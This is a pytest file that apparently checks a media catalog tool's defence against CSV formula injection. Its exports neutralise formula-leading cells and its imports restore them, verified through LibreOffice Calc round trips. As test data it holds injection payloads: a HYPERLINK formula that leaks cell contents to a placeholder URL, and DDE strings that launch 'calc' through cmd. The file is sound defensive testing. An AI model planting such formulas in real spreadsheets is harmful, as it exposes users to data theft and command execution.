"""CSV files media-hub writes never carry a live formula (CWE-1236), and import undoes exactly
the apostrophe export put before one, so a sheet's round trip loses nothing.

The LibreOffice tests open the files in Calc as a person does (formulas evaluated) and save
them again; they are slow (a Calc start each).
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from typer.testing import CliRunner

from media_hub.catalog.assets import AssetEdit
from media_hub.catalog.service import CatalogService
from media_hub.csv_cells import FORMULA_STARTS, inert, restored
from media_hub.hub import Hub
from media_hub.stats.counts import Counts
from media_hub.stats.render import to_csv
from media_hub.stats.report import AssetLine, Grouping, GroupLine, Report, ReportQuery, SnapshotInfo
from tests.librarian_helpers import make_shelf, read_rows, row_of
from tests.test_refusals import invoke

SQLITE_ONLY = pytest.mark.parametrize("catalog_url", ["sqlite"], indirect=True)
SOFFICE = shutil.which("soffice")
needs_calc = pytest.mark.skipif(
    SOFFICE is None, reason="LibreOffice is not installed (make setup installs it)"
)

# The issue's examples, and texts that genuinely begin with an apostrophe.
HYPERLINK = '=HYPERLINK("http://…/?leak="&A2&B2,"Cliquez ici")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
QUOTED = "'=x' n'est pas une formule"
PLUS = "+33 conseils pour l'entretien"
MINUS = "-20 % : les chiffres du chômage"
# Calc opens a CSV as a person opening it does: UTF-8, commas, formulas evaluated (token 13).
CALC_OPENS_CSV = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"
CALC_SAVES_CSV = "csv:Text - txt - csv (StarCalc):44,34,76,1"


@pytest.fixture
def shelf(catalog: CatalogService) -> dict[str, int]:
    """The shelf, with formulas and apostrophes at the start of its texts."""
    ids = make_shelf(catalog)
    catalog.edit(ids["clip1"], AssetEdit(titles={"fr": HYPERLINK}, descriptions={"fr": DDE}))
    catalog.edit(ids["clip2"], AssetEdit(titles={"fr": QUOTED}, descriptions={"ar": "-"}))
    catalog.edit(ids["show"], AssetEdit(titles={"fr": PLUS}))
    catalog.edit(ids["flyer"], AssetEdit(titles={"fr": MINUS}))
    return ids


def exported(runner: CliRunner, path: Path) -> Path:
    invoke(runner, "catalog", "export", "-o", str(path))
    return path


@given(st.text(max_size=12))
def test_restored_gives_back_every_text_inert_was_given(text: str) -> None:
    cell = inert(text)
    assert isinstance(cell, str)
    assert restored(cell) == text
    assert len(cell) == 1 or not cell.startswith(FORMULA_STARTS)


def test_numbers_stay_numbers_and_plain_texts_stay_as_they_are() -> None:
    assert [inert(value) for value in (-5, 3, 1.5, None)] == [-5, 3, 1.5, None]
    assert [inert(text) for text in ("-5", "=1+1", "\tx", "\rx", "'", "-", "Le CV")] == [
        "'-5", "'=1+1", "'\tx", "'\rx", "''", "-", "Le CV",
    ]  # fmt: skip
    # Only the apostrophe export adds is taken off: one a person typed before a plain text stays.
    assert [restored(text) for text in ("'Le CV", "''", "'-", "'=1+1", "'''=1")] == [
        "'Le CV", "'", "'-", "=1+1", "''=1",
    ]  # fmt: skip


@SQLITE_ONLY
def test_export_writes_formulas_as_text_and_import_takes_them_back(
    hub: Hub, shelf: dict[str, int], runner: CliRunner, tmp_path: Path
) -> None:
    rows = read_rows(exported(runner, tmp_path / "assets.csv"))

    clip1, clip2 = row_of(rows, shelf["clip1"]), row_of(rows, shelf["clip2"])
    assert (clip1["title.fr"], clip1["description.fr"]) == (f"'{HYPERLINK}", f"'{DDE}")
    assert (clip2["title.fr"], clip2["description.ar"]) == (f"'{QUOTED}", "-")
    assert row_of(rows, shelf["show"])["title.fr"] == f"'{PLUS}"
    assert row_of(rows, shelf["flyer"])["title.fr"] == f"'{MINUS}"
    assert clip1["episode"] == "1"  # numbers as they are

    result = invoke(runner, "catalog", "import", str(tmp_path / "assets.csv"), "--dry-run")

    assert result.stdout == "nothing to change: 4 assets already as asked\n"


@SQLITE_ONLY
def test_catalog_list_csv_writes_formulas_as_text(
    hub: Hub, shelf: dict[str, int], runner: CliRunner
) -> None:
    result = invoke(runner, "catalog", "list", "--format", "csv")

    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(result.stdout))}
    assert rows[str(shelf["clip1"])]["title.fr"] == f"'{HYPERLINK}"
    assert rows[str(shelf["clip2"])]["title.fr"] == f"'{QUOTED}"
    assert rows[str(shelf["clip2"])]["episode"] == "2"


def test_stats_csv_writes_names_as_text_and_changes_as_numbers() -> None:
    then = datetime(2026, 11, 1, tzinfo=UTC)
    group = GroupLine(
        key="-", name="=cmd|' /C calc'!A0", assets=1,
        counts={"youtube": Counts(views=10)}, changes={"youtube": Counts(views=-5)},
        top=(AssetLine(7, "=1+1", "youtube", 10, -5),),
    )  # fmt: skip
    report = Report(
        ReportQuery(by=Grouping.SERIES), SnapshotInfo(2, then), SnapshotInfo(1, then),
        (group,), {"youtube": Counts(views=10)}, {"youtube": Counts(views=-5)}, (),
    )  # fmt: skip

    (row,) = csv.DictReader(io.StringIO(to_csv(report)))

    assert (row["key"], row["name"]) == ("-", "'=cmd|' /C calc'!A0")
    assert (row["youtube_views"], row["youtube_views_change"]) == ("10", "-5")
    assert row["top_assets"] == "7: =1+1 (10)"  # inside the cell, no formula


@SQLITE_ONLY
def test_xlsx_export_holds_every_text_in_a_text_cell(
    hub: Hub, shelf: dict[str, int], runner: CliRunner, tmp_path: Path
) -> None:
    sheet = load_workbook(exported(runner, tmp_path / "assets.xlsx")).worksheets[0]
    texts = {
        (cell.value, cell.data_type)
        for row in sheet.iter_rows(min_row=2)
        for cell in row
        if isinstance(cell.value, str)
    }
    for text in (HYPERLINK, DDE, QUOTED, PLUS, MINUS):
        assert (text, "s") in texts


def calc(source: Path, convert_to: str, out: Path, infilter: str | None = None) -> Path:
    """`source` opened in LibreOffice Calc and saved as `convert_to` in `out`."""
    assert SOFFICE is not None
    command = [SOFFICE, f"-env:UserInstallation={(out / 'profile').as_uri()}", "--headless"]
    if infilter:
        command.append(f"--infilter={infilter}")
    command += ["--convert-to", convert_to, "--outdir", str(out), str(source)]
    subprocess.run(command, check=True, capture_output=True, timeout=300)
    made = out / f"{source.stem}.{convert_to.split(':')[0]}"
    assert made.is_file(), "Calc saved nothing: apt-get install libreoffice-calc-nogui"
    return made


def formula_cells(xlsx: Path) -> list[str]:
    sheet = load_workbook(xlsx).worksheets[0]
    return [str(cell.value) for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


@pytest.mark.slow
@needs_calc
@SQLITE_ONLY
def test_libreoffice_opens_both_exports_without_a_formula(
    hub: Hub, shelf: dict[str, int], runner: CliRunner, tmp_path: Path
) -> None:
    for name in ("assets.csv", "assets.xlsx"):
        export = exported(runner, tmp_path / name)
        infilter = CALC_OPENS_CSV if name.endswith(".csv") else None
        opened = calc(export, "xlsx", tmp_path / f"opened-{export.suffix[1:]}", infilter)

        assert formula_cells(opened) == [], name


@pytest.mark.slow
@needs_calc
@SQLITE_ONLY
def test_a_csv_saved_again_by_libreoffice_imports_as_nothing_changed(
    hub: Hub, shelf: dict[str, int], runner: CliRunner, tmp_path: Path
) -> None:
    export = exported(runner, tmp_path / "assets.csv")
    saved = calc(export, CALC_SAVES_CSV, tmp_path / "saved", CALC_OPENS_CSV)
    assert saved.read_bytes() != export.read_bytes()  # Calc's own writing (no BOM...)

    result = invoke(runner, "catalog", "import", str(saved), "--dry-run")

    assert result.stdout == "nothing to change: 4 assets already as asked\n"
